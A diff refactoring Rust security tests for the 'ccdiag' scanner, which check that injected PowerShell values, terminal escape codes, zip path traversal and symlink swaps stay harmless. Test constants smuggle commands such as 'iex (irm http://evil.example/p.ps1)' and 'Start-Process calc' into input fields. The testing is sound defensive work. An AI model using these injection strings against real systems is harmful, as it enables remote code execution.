@@ -3,24 +3,13 @@
 //! loader, reach the terminal raw, or bring a file from outside the scanned folder into the
 //! report.
 
-use std::io::Write;
 use std::path::Path;
-use std::process::{Command, Output};
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
 
-fn run(args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_ccdiag")).args(args).env("NO_COLOR", "1").output().unwrap()
-}
-
-fn scan(dir: &Path, format: &str, extra: &[&str]) -> String {
-    let mut args = vec!["scan", dir.to_str().unwrap(), "--format", format, "--fail-on", "never"];
-    args.extend_from_slice(extra);
-    let output = run(&args);
-    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
-    String::from_utf8(output.stdout).unwrap()
-}
+mod common;
+use common::{ccdiag, scan, write, zip_of};
 
 fn json(dir: &Path, extra: &[&str]) -> Value {
     serde_json::from_str(&scan(dir, "json", extra)).unwrap()
@@ -70,23 +59,19 @@ fn assert_argument_is_literal(command: &str, parameter: &str, value: &str) {
     assert!(command[at + len..].is_empty() || command[at + len..].starts_with([' ', '\n']), "{command}");
 }
 
-fn write(path: &Path, text: &str) {
-    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-    std::fs::write(path, text).unwrap();
-}
-
 const EVIL_COMPUTER: &str = "MS1; iex (irm http://evil.example/p.ps1) #";
 const EVIL_VM: &str = "2.1.0.0-CMS'; iex (irm http://evil.example/q.ps1); '";
 const EVIL_USER: &str = "ken\u{201B}; Start-Process calc; \u{201B}";
 
 fn injection_bundle(dir: &Path) {
     let service = serde_json::json!([{"Name": "RTCSRV", "Status": 1, "StartType": 2, "PSComputerName": EVIL_COMPUTER}]);
-    write(&dir.join("Get-Service.json"), &service.to_string());
+    write(dir, "Get-Service.json", service.to_string());
     let vm = serde_json::json!([{"Name": EVIL_VM, "State": 3}]);
-    write(&dir.join("Get-VM.json"), &vm.to_string());
+    write(dir, "Get-VM.json", vm.to_string());
     write(
-        &dir.join("console.txt"),
-        &format!(
+        dir,
+        "console.txt",
+        format!(
             "PS C:\\> $session = New-CsOnlineSession -Credential $cred\n\
              Get-CsWebTicket : Logon failed for the user '{EVIL_USER}'. Please create a new PSCredential object, making sure that you have used the correct user name and password.\n\
              At line:1 char:12\n\
@@ -131,7 +116,7 @@ fn values_from_inputs_enter_commands_only_as_literals() {
 fn a_value_that_cannot_be_made_safe_is_left_out_with_a_note() {
     let dir = tempfile::tempdir().unwrap();
     let vm = serde_json::json!([{"Name": "2.1.0.0-CMS\nStart-Process calc", "State": 3}]);
-    write(&dir.path().join("Get-VM.json"), &vm.to_string());
+    write(dir.path(), "Get-VM.json", vm.to_string());
     let report = json(dir.path(), &[]);
     let finding = report["findings"].as_array().unwrap().iter().find(|f| f["rule_id"] == "CCE102").unwrap();
     let start = &finding["remediation"][0];
@@ -164,7 +149,7 @@ fn redaction_finds_values_by_their_shape() {
         )
     };
     let text: String = lines.iter().map(|line| record(line)).collect();
-    write(&dir.path().join("console.txt"), &text);
+    write(dir.path(), "console.txt", &text);
     let report = scan(dir.path(), "json", &["--redact"]);
     for secret in
         ["10.99.88.78", "svc2", "10.20.30.43", "10.20.30.48", "10.20.30.54", "jane.doe", "4mjane", "kim.akers"]
@@ -177,7 +162,7 @@ fn redaction_finds_values_by_their_shape() {
         ["C:\\Windows\\System32", "NT AUTHORITY\\SYSTEM", "CloudConnector\\module.ini", "HKLM\\SOFTWARE\\Microsoft"]
     {
         let dir = tempfile::tempdir().unwrap();
-        write(&dir.path().join("console.txt"), &record(kept));
+        write(dir.path(), "console.txt", record(kept));
         let report = scan(dir.path(), "text", &["--redact"]);
         assert!(report.contains(kept), "{kept} was redacted: {report}");
     }
@@ -185,8 +170,9 @@ fn redaction_finds_values_by_their_shape() {
 
 fn rule_pack(dir: &Path, detection: &str, extra: &str) {
     write(
-        &dir.join("X001-x.yaml"),
-        &format!(
+        dir,
+        "X001-x.yaml",
+        format!(
             "id: X001\nname: x\ntitle: t\nseverity: error\nsources: [text]\ndocs: {{what: w, why: y}}\n\
              detection:\n{detection}\nremediation:\n  - text: fix\n{extra}"
         ),
@@ -196,7 +182,7 @@ fn rule_pack(dir: &Path, detection: &str, extra: &str) {
 /// A hostile pack ends as exit 2 with a diagnostic, in seconds.
 fn assert_load_error(pack: &Path, expected: &str) {
     let started = Instant::now();
-    let output = run(&["rules", "list", "--rules", pack.to_str().unwrap()]);
+    let output = ccdiag(&["rules", "list", "--rules", pack.to_str().unwrap()]);
     assert!(started.elapsed() < Duration::from_secs(20), "loading took {:?}", started.elapsed());
     assert_eq!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
     // miette wraps long messages and draws a border in front of the wrapped part.
@@ -231,12 +217,12 @@ fn hostile_rule_packs_are_load_errors() {
     rule_pack(dir.path(), "  sel:\n    line: a\n  condition: sel", "");
     let text =
         std::fs::read_to_string(dir.path().join("X001-x.yaml")).unwrap().replace("title: t", "title: \"a\u{1b}[2J\"");
-    write(&dir.path().join("X001-x.yaml"), &text);
+    write(dir.path(), "X001-x.yaml", &text);
     assert_load_error(dir.path(), "U+001B is not allowed in a rule file");
 
     rule_pack(dir.path(), "  sel:\n    line: a\n  condition: sel", "");
     let text = std::fs::read_to_string(dir.path().join("X001-x.yaml")).unwrap().replace("name: x", "name: \"x\\e[2J\"");
-    write(&dir.path().join("X001-x.yaml"), &text);
+    write(dir.path(), "X001-x.yaml", &text);
     assert_load_error(dir.path(), "a rule name is kebab-case");
 
     let quoted = "  sel:\n    line: a\n  condition: sel";
@@ -255,13 +241,13 @@ fn rule_text_reaches_the_terminal_escaped() {
     );
     let text = std::fs::read_to_string(dir.path().join("X001-x.yaml")).unwrap();
     let text = text.replace("title: t", "title: \"evil \\e[2J\\a title\"").replace("what: w", "what: \"w\\e[31m\"");
-    write(&dir.path().join("X001-x.yaml"), &text);
+    write(dir.path(), "X001-x.yaml", &text);
     let bundle = tempfile::tempdir().unwrap();
-    write(&bundle.path().join("notes.txt"), "zzqq-marker\n");
+    write(bundle.path(), "notes.txt", "zzqq-marker\n");
     let pack = dir.path().to_str().unwrap();
-    let explained = run(&["rules", "explain", "X001", "--rules", pack]);
-    let listed = run(&["rules", "list", "--rules", pack]);
-    let report = run(&["scan", bundle.path().to_str().unwrap(), "--rules", pack, "--fail-on", "never"]);
+    let explained = ccdiag(&["rules", "explain", "X001", "--rules", pack]);
+    let listed = ccdiag(&["rules", "list", "--rules", pack]);
+    let report = ccdiag(&["scan", bundle.path().to_str().unwrap(), "--rules", pack, "--fail-on", "never"]);
     for output in [explained, listed, report] {
         let out = String::from_utf8(output.stdout).unwrap();
         assert!(out.contains("X001"), "{out}");
@@ -272,15 +258,14 @@ fn rule_text_reaches_the_terminal_escaped() {
 #[cfg(unix)]
 #[test]
 fn a_file_swapped_for_a_link_after_the_walk_is_not_read() {
-    use ccdiag::engine::Engine;
     use ccdiag::input::{discover, limits::Limits};
     use ccdiag::scan::{self, ScanOptions};
 
     let outside = tempfile::tempdir().unwrap();
     let secret = "Import-Module : The specified module 'CloudConnector' was not loaded because no valid module file was found in any module directory.\n";
-    write(&outside.path().join("secret.txt"), secret);
+    write(outside.path(), "secret.txt", secret);
     let dir = tempfile::tempdir().unwrap();
-    write(&dir.path().join("console.txt"), "nothing to see\n");
+    write(dir.path(), "console.txt", "nothing to see\n");
 
     let limits = Limits::default();
     let sources = discover::discover(&[dir.path().to_str().unwrap().to_owned()], &limits, &mut std::io::empty());
@@ -288,7 +273,7 @@ fn a_file_swapped_for_a_link_after_the_walk_is_not_read() {
     std::fs::remove_file(dir.path().join("console.txt")).unwrap();
     std::os::unix::fs::symlink(outside.path().join("secret.txt"), dir.path().join("console.txt")).unwrap();
 
-    let engine = Engine::new(ccdiag::rules::load::built_in().unwrap()).unwrap();
+    let engine = common::engine();
     let scan = scan::scan(&engine, &sources, &ScanOptions::default());
     let input = scan.inputs.iter().find(|i| i.path == "console.txt").unwrap();
     assert!(input.problems.iter().any(|p| p.message.contains("replaced")), "{:?}", input.problems);
@@ -296,22 +281,11 @@ fn a_file_swapped_for_a_link_after_the_walk_is_not_read() {
     assert!(scan.outcomes.iter().all(|o| o.count == 0), "the outside file was read");
 }
 
-fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
-    let mut buf = std::io::Cursor::new(Vec::new());
-    let mut w = zip::ZipWriter::new(&mut buf);
-    for (name, data) in entries {
-        w.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
-        w.write_all(data).unwrap();
-    }
-    w.finish().unwrap();
-    buf.into_inner()
-}
-
 #[test]
 fn every_copy_of_a_name_in_a_zip_is_read() {
     let evidence = b"Import-Module : The specified module 'CloudConnector' was not loaded because no valid module file was found in any module directory.\n";
     // Written under two names of the same length, then made one name, offsets unchanged.
-    let mut bytes = zip_of(&[("Get-Service.txt", evidence), ("Get-Sarvice.txt", b"all fine\n")]);
+    let mut bytes = zip_of_stored(&[("Get-Service.txt", evidence), ("Get-Sarvice.txt", b"all fine\n")]);
     let (wrong, right) = (b"Get-Sarvice.txt", b"Get-Service.txt");
     for at in (0..bytes.len() - wrong.len()).rev() {
         if &bytes[at..at + wrong.len()] == wrong {
@@ -337,7 +311,7 @@ fn every_copy_of_a_name_in_a_zip_is_read() {
 fn sarif_paths_never_step_out_of_the_scanned_folder() {
     let evidence = b"Import-Module : The specified module 'CloudConnector' was not loaded because no valid module file was found in any module directory.\n";
     let dir = tempfile::tempdir().unwrap();
-    std::fs::write(dir.path().join("bundle.zip"), zip_of(&[("../../evil.txt", evidence)])).unwrap();
+    std::fs::write(dir.path().join("bundle.zip"), zip_of_stored(&[("../../evil.txt", evidence)])).unwrap();
     let sarif = scan(dir.path(), "sarif", &[]);
     assert!(sarif.contains("bundle.zip/%2E%2E/%2E%2E/evil.txt"), "{sarif}");
     assert!(!sarif.contains("/../"), "{sarif}");
@@ -348,8 +322,9 @@ fn absurd_dates_are_problems_not_expired_certificates() {
     for not_after in ["12/31/99999 11:59:59 PM", "2027-01-12T09:24:06+99:00", "2027-02-30 10:00:00"] {
         let dir = tempfile::tempdir().unwrap();
         write(
-            &dir.path().join("Get-ChildItem-Cert.txt"),
-            &format!(
+            dir.path(),
+            "Get-ChildItem-Cert.txt",
+            format!(
                 "\nSubject    : CN=CCE-CMS.cce.contoso.local\nIssuer     : CN=cce-CCEDC-CA, DC=cce, DC=contoso, DC=local\n\
                  Thumbprint : 0C2F1A9B7E3D5C4A8B6F0E1D2C3B4A5968778695\nNotBefore  : 1/12/2025 9:24:06 AM\nNotAfter   : {not_after}\n\n"
             ),
@@ -359,4 +334,8 @@ fn absurd_dates_are_problems_not_expired_certificates() {
         let problems = report["inputs"][0]["problems"].to_string();
         assert!(problems.contains("is not a date Windows writes"), "{not_after}: {problems}");
     }
+}
+
+fn zip_of_stored(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    zip_of(entries, zip::CompressionMethod::Stored)
 }
